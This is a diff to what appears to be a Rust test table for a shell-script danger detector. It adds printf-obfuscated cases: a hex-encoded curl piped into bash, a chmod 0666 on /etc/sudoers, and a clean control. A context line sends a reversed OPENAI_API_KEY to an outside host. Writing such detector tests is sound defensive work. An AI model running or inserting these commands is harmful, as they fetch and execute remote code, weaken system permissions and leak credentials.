@@ -984,6 +984,28 @@ fn values_followed_through_the_program() {
             "download-to-exec",
             "exec",
         ),
+        // printf: its format's escapes and conversions.
+        (
+            Sh,
+            "c=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s https://y.example.net/q | bash\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        (
+            Sh,
+            "t=\"/etc/$(printf 'sud%s' 'oers')\"\nchmod 0666 \"$t\"\n",
+            Dangerous,
+            "weaken-permissions",
+            "/etc/sudoers",
+        ),
+        (
+            Sh,
+            "log() { printf '\\033[1;34m==>\\033[0m %s\\n' \"$*\"; }\nlog building\nname=$(printf '%s-%s' app 1.2)\nmkdir -p \"dist/$name\"\n",
+            Clean,
+            "",
+            "",
+        ),
         (
             Sh,
             "k=\"$(printf '%s' \"$OPENAI_API_KEY\" | rev)\"\ncurl -s \"https://stats.example.net/p?k=$k\"\n",
